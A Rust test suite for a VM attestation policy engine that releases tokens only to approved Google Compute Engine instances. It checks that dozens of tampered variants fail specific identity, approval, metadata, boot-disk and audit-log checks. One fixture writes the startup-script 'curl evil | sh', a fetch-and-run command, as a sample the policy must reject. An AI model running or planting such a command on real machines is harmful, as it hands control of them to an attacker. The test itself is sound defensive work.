//! `policy::evaluate` on a good VM built from the fixtures, and a table of tampered variants, each
//! asserting the exact failed check names.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::*;
use tokendist_core::approval::{Approval, sign};
use tokendist_core::checks::{self, *};
use tokendist_core::evidence::{Evidence, FetchError, FetchErrorKind};
use tokendist_core::identity::IdentityError;
use tokendist_core::policy::{evaluate, evaluate_for_review, evaluate_unapproved};
use tokendist_core::settings::{FingerprintPolicy, Settings};
use tokendist_core::verdict::Outcome;

fn fetch_error(api: &str, kind: FetchErrorKind) -> FetchError {
    FetchError {
        api: api.to_owned(),
        kind,
        message: "HTTP 503 backendError".to_owned(),
    }
}

fn resign(approval: &mut Approval) {
    sign(approval, &approver_key());
}

fn reason(verdict: &tokendist_core::verdict::Verdict, name: &str) -> String {
    match &verdict.get(name).unwrap().outcome {
        Outcome::Fail(r) | Outcome::Skipped(r) => r.clone(),
        Outcome::Pass => String::new(),
    }
}

#[test]
fn good_vm_passes_every_check_in_order() {
    let verdict = evaluate(&good_approval(), &good_evidence(), &settings());
    let names: Vec<&str> = verdict.checks.iter().map(|c| c.name.as_str()).collect();
    assert_eq!(names, checks::RELEASE_CHECKS);
    assert!(verdict.allowed(), "{:#?}", verdict.checks);
    assert!(verdict.failed_names().is_empty());
    // Unpinned transport and no TPM requirement are skips, not passes.
    for name in [
        NETWORK_PEER_IP,
        NETWORK_CLIENT_CERT,
        TPM_EK,
        TPM_AK,
        TPM_QUOTE,
    ] {
        assert!(
            matches!(verdict.get(name).unwrap().outcome, Outcome::Skipped(_)),
            "{name}"
        );
    }
}

type Tamper = fn(&mut Approval, &mut Evidence, &mut Settings);

#[test]
fn each_denied_case_fails_exactly_its_checks() {
    let table: Vec<(&str, Tamper, Vec<&str>)> = vec![
        (
            "token signed by an unknown key",
            |_, e, _| {
                e.identity = Err(IdentityError::UnknownKey {
                    kid: "k".to_owned(),
                })
            },
            vec![IDENTITY_SIGNATURE],
        ),
        (
            "token for another audience",
            |_, e, _| {
                e.identity = Err(IdentityError::WrongAudience {
                    actual: "x".to_owned(),
                    expected: AUDIENCE.to_owned(),
                })
            },
            vec![IDENTITY_CLAIMS],
        ),
        (
            "stale token",
            |_, e, _| {
                e.identity = Err(IdentityError::IssuedTooLongAgo {
                    iat: 0,
                    age_secs: 90,
                    window_secs: 60,
                })
            },
            vec![IDENTITY_FRESH],
        ),
        (
            "token from another VM",
            |_, e, _| {
                if let Ok(c) = &mut e.identity {
                    c.compute_engine.instance_id = "1".to_owned()
                }
            },
            vec![IDENTITY_INSTANCE],
        ),
        (
            "token from another zone",
            |_, e, _| {
                if let Ok(c) = &mut e.identity {
                    c.compute_engine.zone = "europe-west2-b".to_owned()
                }
            },
            vec![IDENTITY_INSTANCE],
        ),
        (
            "token for another service account",
            |_, e, _| {
                if let Ok(c) = &mut e.identity {
                    c.email = Some("default@developer.gserviceaccount.com".to_owned())
                }
            },
            vec![IDENTITY_SERVICE_ACCOUNT],
        ),
        (
            "approval edited in the store",
            |a, _, _| a.fingerprint = "other=".to_owned(),
            vec![APPROVAL_SIGNATURE, INSTANCE_FINGERPRINT],
        ),
        (
            "approver key not trusted",
            |_, _, s| {
                s.trusted_approver_keys = vec![tokendist_core::settings::encode_verifying_key(
                    &ed25519_dalek::SigningKey::from_bytes(&[1; 32]).verifying_key(),
                )]
            },
            vec![APPROVAL_SIGNATURE],
        ),
        (
            "approval revoked",
            |a, _, _| {
                a.revoked_at = Some(a.approved_at);
                a.revoke_reason = Some("key rotation".to_owned());
                resign(a);
            },
            vec![APPROVAL_STATE],
        ),
        (
            "approval expired",
            |a, _, _| {
                a.expires_at = Some(a.approved_at);
                resign(a);
            },
            vec![APPROVAL_STATE],
        ),
        (
            "user-data tampered (port 50052)",
            |_, e, _| {
                let i = e.instance.as_mut().unwrap();
                i.metadata.insert(
                    "user-data".to_owned(),
                    fixture("cos-cloud-config-seed-tokenclient-tampered-port50052.yaml"),
                );
                i.fingerprint = "changed=".to_owned();
            },
            vec![INSTANCE_USER_DATA, INSTANCE_FINGERPRINT],
        ),
        (
            "ssh-keys added",
            |_, e, _| {
                e.instance
                    .as_mut()
                    .unwrap()
                    .metadata
                    .insert("ssh-keys".to_owned(), "bob:ssh-ed25519 AAAA".to_owned());
            },
            vec![INSTANCE_METADATA],
        ),
        (
            "startup-script added",
            |_, e, _| {
                e.instance
                    .as_mut()
                    .unwrap()
                    .metadata
                    .insert("startup-script".to_owned(), "curl evil | sh".to_owned());
            },
            vec![INSTANCE_METADATA],
        ),
        (
            "serial port enabled",
            |_, e, _| {
                e.instance
                    .as_mut()
                    .unwrap()
                    .metadata
                    .insert("serial-port-enable".to_owned(), "TRUE".to_owned());
            },
            vec![INSTANCE_METADATA],
        ),
        (
            "os login enabled",
            |_, e, _| {
                e.instance
                    .as_mut()
                    .unwrap()
                    .metadata
                    .insert("enable-oslogin".to_owned(), "true".to_owned());
            },
            vec![INSTANCE_METADATA],
        ),
        (
            "project ssh keys not blocked",
            |_, e, _| {
                e.instance
                    .as_mut()
                    .unwrap()
                    .metadata
                    .insert("block-project-ssh-keys".to_owned(), "FALSE".to_owned());
            },
            vec![INSTANCE_METADATA],
        ),
        (
            "stopped and started (exact fingerprint)",
            |_, e, _| {
                e.instance.as_mut().unwrap().fingerprint = "new-after-restart=".to_owned();
            },
            vec![INSTANCE_FINGERPRINT],
        ),
        (
            "boot image fakeimage",
            |_, e, _| {
                e.boot_disk.as_mut().unwrap().source_image =
                Some("https://www.googleapis.com/compute/v1/projects/tc-4f4f5a70/global/images/fakeimage".to_owned());
            },
            vec![INSTANCE_BOOT_IMAGE],
        ),
        (
            "boot disk from a snapshot",
            |_, e, _| e.boot_disk.as_mut().unwrap().source_image = None,
            vec![INSTANCE_BOOT_IMAGE],
        ),
        (
            "VM runs as another service account",
            |_, e, _| {
                e.instance.as_mut().unwrap().service_accounts =
                    vec!["other@tc-4f4f5a70.iam.gserviceaccount.com".to_owned()];
            },
            vec![INSTANCE_SERVICE_ACCOUNT],
        ),
        (
            "secure boot off",
            |_, e, _| e.instance.as_mut().unwrap().shielded.secure_boot = false,
            vec![INSTANCE_SHIELDED],
        ),
        (
            "confidential computing required but off",
            |a, _, _| {
                a.require_confidential = true;
                resign(a);
            },
            vec![INSTANCE_SHIELDED],
        ),
        (
            "setMetadata in the audit log",
            |_, e, _| {
                let mut entry = audit_entry(
                    "logging-entry-v1-compute-instances-setMetadata-seed-tokenclient-assembled.json",
                );
                entry.instance_id = Some(good_instance().instance_id);
                e.audit_log.as_mut().unwrap().push(entry);
            },
            vec![AUDITLOG_CLEAN],
        ),
        (
            "project metadata changed",
            |_, e, _| {
                e.audit_log.as_mut().unwrap().push(audit_entry(
                    "logging-entry-v1-compute-projects-setCommonInstanceMetadata-last.json",
                ));
            },
            vec![AUDITLOG_CLEAN],
        ),
        (
            "wrong peer address",
            |a, e, _| {
                a.peer_address = Some("34.121.225.36".to_owned());
                resign(a);
                e.peer.address = Some("203.0.113.7".to_owned());
            },
            vec![NETWORK_PEER_IP],
        ),
        (
            "wrong client certificate",
            |a, e, _| {
                a.client_cert_serial = Some("39".to_owned());
                resign(a);
                e.peer.client_cert_serial = Some("5".to_owned());
            },
            vec![NETWORK_CLIENT_CERT],
        ),
        (
            "TPM required",
            |a, _, _| {
                a.require_tpm = true;
                resign(a);
            },
            vec![TPM_EK, TPM_AK, TPM_QUOTE],
        ),
        (
            "Compute API down",
            |_, e, _| {
                e.instance = Err(fetch_error(
                    "compute.instances.get",
                    FetchErrorKind::Unavailable,
                ))
            },
            vec![
                INSTANCE_USER_DATA,
                INSTANCE_METADATA,
                INSTANCE_FINGERPRINT,
                INSTANCE_SERVICE_ACCOUNT,
                INSTANCE_SHIELDED,
                INSTANCE_BOOT_DISK,
            ],
        ),
        (
            "disk not readable",
            |_, e, _| {
                e.boot_disk = Err(fetch_error(
                    "compute.disks.get",
                    FetchErrorKind::PermissionDenied,
                ))
            },
            vec![INSTANCE_BOOT_IMAGE, INSTANCE_BOOT_DISK],
        ),
        (
            "audit log not readable",
            |_, e, _| {
                e.audit_log = Err(fetch_error(
                    "logging.entries.list",
                    FetchErrorKind::PermissionDenied,
                ))
            },
            vec![INSTANCE_BOOT_DISK, AUDITLOG_CLEAN],
        ),
        (
            "boot disk created a day before its instance",
            |_, e, _| {
                let disk = e.boot_disk.as_mut().unwrap();
                disk.creation_timestamp = disk
                    .creation_timestamp
                    .map(|t| t - chrono::Duration::days(1));
            },
            vec![INSTANCE_BOOT_DISK],
        ),
        (
            "boot disk detached once",
            |_, e, _| {
                let disk = e.boot_disk.as_mut().unwrap();
                disk.last_detach_timestamp = disk.creation_timestamp;
            },
            vec![INSTANCE_BOOT_DISK],
        ),
        (
            "boot disk also attached to another instance",
            |_, e, _| {
                let disk = e.boot_disk.as_mut().unwrap();
                disk.users
                    .push("projects/tc-4f4f5a70/zones/us-central1-a/instances/reader".into());
            },
            vec![INSTANCE_BOOT_DISK],
        ),
        (
            "boot disk re-attached a day later",
            |_, e, _| {
                let disk = e.boot_disk.as_mut().unwrap();
                disk.last_attach_timestamp = disk
                    .creation_timestamp
                    .map(|t| t + chrono::Duration::days(1));
            },
            vec![INSTANCE_BOOT_DISK],
        ),
        (
            "boot disk snapshotted (gce_disk entry)",
            |_, e, _| {
                let disk_id = e.boot_disk.as_ref().unwrap().disk_id.clone();
                let mut entry = e.audit_log.as_ref().unwrap()[0].clone();
                entry.resource_type = "gce_disk".into();
                entry.instance_id = None;
                entry.disk_id = disk_id;
                entry.method_name = "v1.compute.disks.createSnapshot".into();
                e.audit_log.as_mut().unwrap().push(entry);
            },
            vec![INSTANCE_BOOT_DISK, AUDITLOG_CLEAN],
        ),
        (
            "snapshot made from the boot disk by name (gce_snapshot entry)",
            |_, e, _| {
                let mut entry = e.audit_log.as_ref().unwrap()[0].clone();
                entry.resource_type = "gce_snapshot".into();
                entry.instance_id = None;
                entry.method_name = "beta.compute.snapshots.insert".into();
                entry.source_disk =
                    Some("projects/tc-4f4f5a70/zones/us-central1-a/disks/tokenclient".into());
                e.audit_log.as_mut().unwrap().push(entry);
            },
            vec![INSTANCE_BOOT_DISK, AUDITLOG_CLEAN],
        ),
        (
            "machine image made from the instance",
            |_, e, _| {
                let mut entry = e.audit_log.as_ref().unwrap()[0].clone();
                entry.resource_type = "gce_machine_image".into();
                entry.instance_id = None;
                entry.method_name = "v1.compute.machineImages.insert".into();
                entry.source_instance =
                    Some("projects/tc-4f4f5a70/zones/us-central1-a/instances/tokenclient".into());
                e.audit_log.as_mut().unwrap().push(entry);
            },
            vec![INSTANCE_BOOT_DISK, AUDITLOG_CLEAN],
        ),
        (
            "unknown method on the instance",
            |_, e, _| {
                let mut entry = e.audit_log.as_ref().unwrap()[0].clone();
                entry.method_name = "v1.compute.instances.performMaintenance".into();
                e.audit_log.as_mut().unwrap().push(entry);
            },
            vec![AUDITLOG_CLEAN],
        ),
        (
            "approval requires Data Access, log empty",
            |a, _, _| {
                a.require_data_access = true;
                sign(a, &approver_key());
            },
            vec![AUDITLOG_DATA_ACCESS],
        ),
        (
            "require_data_access switched off in the store after signing",
            |a, _, _| {
                a.require_data_access = true;
                sign(a, &approver_key());
                a.require_data_access = false;
            },
            vec![APPROVAL_SIGNATURE],
        ),
        (
            "Data Access log required but empty",
            |_, _, s| s.require_data_access = true,
            vec![AUDITLOG_DATA_ACCESS],
        ),
    ];
    for (case, tamper, expected) in table {
        let (mut approval, mut evidence, mut settings) =
            (good_approval(), good_evidence(), settings());
        tamper(&mut approval, &mut evidence, &mut settings);
        let verdict = evaluate(&approval, &evidence, &settings);
        assert_eq!(
            verdict.failed_names(),
            expected,
            "{case}: {:#?}",
            verdict.checks
        );
        assert!(!verdict.allowed(), "{case}");
    }
}

#[test]
fn failed_identity_skips_the_checks_that_depend_on_it() {
    let mut evidence = good_evidence();
    evidence.identity = Err(IdentityError::WrongIssuer {
        iss: "x".to_owned(),
    });
    let verdict = evaluate(&good_approval(), &evidence, &settings());
    assert!(verdict.get(IDENTITY_SIGNATURE).unwrap().is_pass());
    assert!(reason(&verdict, IDENTITY_CLAIMS).contains("issuer"));
    for name in [IDENTITY_FRESH, IDENTITY_INSTANCE, IDENTITY_SERVICE_ACCOUNT] {
        assert!(
            matches!(verdict.get(name).unwrap().outcome, Outcome::Skipped(_)),
            "{name}"
        );
    }
}

#[test]
fn fetch_errors_are_the_failure_reason() {
    let mut evidence = good_evidence();
    evidence.audit_log = Err(fetch_error(
        "logging.entries.list",
        FetchErrorKind::Unavailable,
    ));
    let verdict = evaluate(&good_approval(), &evidence, &settings());
    assert_eq!(
        reason(&verdict, AUDITLOG_CLEAN),
        "logging.entries.list unavailable: HTTP 503 backendError"
    );
}

#[test]
fn audited_fingerprint_policy_accepts_a_logged_restart_but_not_silence() {
    let mut settings = settings();
    settings.fingerprint_policy = FingerprintPolicy::AuditedChangesOnly;
    let approval = good_approval();
    let mut evidence = good_evidence();
    evidence.instance.as_mut().unwrap().fingerprint = "after-restart=".to_owned();
    let verdict = evaluate(&approval, &evidence, &settings);
    assert_eq!(
        verdict.failed_names(),
        [INSTANCE_FINGERPRINT],
        "no event explains the change"
    );

    for name in [
        "logging-entry-v1-compute-instances-stop.json",
        "logging-entry-v1-compute-instances-start.json",
    ] {
        let mut entry = audit_entry(name);
        entry.instance_id = Some(approval.instance_id.clone());
        entry.timestamp = evidence.gathered_at - chrono::Duration::minutes(1);
        evidence.audit_log.as_mut().unwrap().push(entry);
    }
    let verdict = evaluate(&approval, &evidence, &settings);
    assert!(verdict.allowed(), "{:#?}", verdict.checks);
}

#[test]
fn approved_boot_image_list_overrides_the_default_prefixes() {
    let mut approval = good_approval();
    approval.boot_images =
        vec!["projects/cos-cloud/global/images/cos-stable-81-12871-119-0".to_owned()];
    resign(&mut approval);
    assert!(evaluate(&approval, &good_evidence(), &settings()).allowed());
    approval.boot_images = vec!["projects/cos-cloud/global/images/cos-stable-89".to_owned()];
    resign(&mut approval);
    assert_eq!(
        evaluate(&approval, &good_evidence(), &settings()).failed_names(),
        [INSTANCE_BOOT_IMAGE]
    );
}

#[test]
fn pending_vm_is_reviewed_against_a_proposal_from_live_evidence() {
    let (proposal, verdict) =
        evaluate_for_review(&good_evidence(), &settings(), "alice@example.com");
    assert_eq!(proposal.instance_id, "8939838129032687278");
    assert_eq!(
        proposal.user_data_sha256,
        "v7SftwlRj75WRXCq0Q/buov8D7t+Sg08fRqaylohfiI="
    );
    assert!(proposal.signature.is_empty());
    assert!(verdict.allowed(), "{:#?}", verdict.checks);
    for name in [APPROVAL_SIGNATURE, APPROVAL_STATE, TPM_EK] {
        assert!(
            matches!(verdict.get(name).unwrap().outcome, Outcome::Skipped(_)),
            "{name}"
        );
    }

    // A pending VM with SSH keys and a non-COS image shows red checks before anyone approves it.
    let mut evidence = good_evidence();
    evidence
        .instance
        .as_mut()
        .unwrap()
        .metadata
        .insert("ssh-keys".to_owned(), "bob:key".to_owned());
    evidence.boot_disk.as_mut().unwrap().source_image =
        Some("projects/ubuntu-os-cloud/global/images/ubuntu-2204".to_owned());
    let (_, verdict) = evaluate_for_review(&evidence, &settings(), "alice@example.com");
    assert_eq!(
        verdict.failed_names(),
        [INSTANCE_METADATA, INSTANCE_BOOT_IMAGE]
    );

    // Without the Compute API, the proposal comes from the token and the instance checks fail closed.
    let mut evidence = good_evidence();
    evidence.instance = Err(fetch_error(
        "compute.instances.get",
        FetchErrorKind::NotFound,
    ));
    let (proposal, verdict) = evaluate_for_review(&evidence, &settings(), "alice@example.com");
    assert_eq!(proposal.instance_name, "tokenclient");
    assert!(verdict.failed_names().contains(&INSTANCE_USER_DATA));
}

#[test]
fn unapproved_evaluation_never_checks_a_signature() {
    let proposal = unsigned_good_approval();
    let verdict = evaluate_unapproved(&proposal, &good_evidence(), &settings());
    assert!(verdict.allowed());
    assert!(
        !evaluate(&proposal, &good_evidence(), &settings()).allowed(),
        "unsigned approval must not release"
    );
}

#[test]
fn verdict_round_trips_through_json() {
    let mut evidence = good_evidence();
    evidence.instance.as_mut().unwrap().shielded.vtpm = false;
    let verdict = evaluate(&good_approval(), &evidence, &settings());
    let back = serde_json::from_str(&serde_json::to_string(&verdict).unwrap()).unwrap();
    assert_eq!(verdict, back);
    let evidence_back: Evidence =
        serde_json::from_str(&serde_json::to_string(&evidence).unwrap()).unwrap();
    assert_eq!(evidence_back, evidence);
}

#[test]
fn harmless_disk_and_instance_methods_pass_and_readable_data_access_is_verified() {
    let mut evidence = good_evidence();
    let disk_id = evidence.boot_disk.as_ref().unwrap().disk_id.clone();
    let insert = evidence.audit_log.as_ref().unwrap()[0].clone();
    for (method, on_disk) in [
        ("v1.compute.instances.setLabels", false),
        ("beta.compute.instances.stop", false),
        ("v1.compute.disks.setLabels", true),
        ("v1.compute.disks.resize", true),
    ] {
        let mut entry = insert.clone();
        entry.insert_id = method.to_owned();
        entry.method_name = method.to_owned();
        if on_disk {
            entry.resource_type = "gce_disk".into();
            entry.instance_id = None;
            entry.disk_id = disk_id.clone();
        }
        evidence.audit_log.as_mut().unwrap().push(entry);
    }
    evidence.data_access = Ok(tokendist_core::evidence::DataAccessEvidence {
        newest_entry: Some(evidence.gathered_at),
        newest_method: Some("v1.compute.instances.get".into()),
    });
    let mut settings = settings();
    settings.require_data_access = true;
    let verdict = evaluate(&good_approval(), &evidence, &settings);
    assert!(verdict.allowed(), "{:#?}", verdict.checks);
    let data_access = verdict
        .checks
        .iter()
        .find(|c| c.name == AUDITLOG_DATA_ACCESS)
        .unwrap();
    assert_eq!(data_access.outcome, Outcome::Pass);
}
